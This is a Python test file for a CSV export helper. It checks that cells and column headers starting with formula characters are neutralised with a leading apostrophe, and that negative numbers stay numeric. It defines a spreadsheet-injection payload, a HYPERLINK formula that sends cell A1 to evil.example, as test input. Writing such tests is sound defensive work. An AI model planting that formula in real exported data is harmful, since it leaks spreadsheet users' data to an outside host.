"""CSV of tasks and batches: no cell and no column is a formula."""

import csv
import io
from collections.abc import Sequence
from typing import Any

from api.http.row_stream import csv_response

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


async def read(columns: Sequence[str], *rows: dict[str, Any]) -> list[list[str]]:
    chunks = [str(chunk) async for chunk in csv_response(columns, rows).body_iterator]
    return list(csv.reader(io.StringIO("".join(chunks), newline="")))


async def test_no_cell_is_a_formula() -> None:
    row = {"note": FORMULA, "output": f"{FORMULA}\n", "exit_code": -1, "options": {"a": FORMULA}}
    header, cells = await read(list(row), row)
    assert header == list(row)
    assert cells[:3] == [f"'{FORMULA}", f"'{FORMULA}\n", "-1"]
    assert cells[3].startswith("{")


async def test_no_column_is_a_formula() -> None:
    [header] = await read(["number", "=1+1", "@x"])
    assert header == ["number", "'=1+1", "'@x"]


async def test_negative_numbers_in_outputs_stay_numbers() -> None:
    assert (await read(["output"], {"output": "-5"}))[1] == ["-5"]
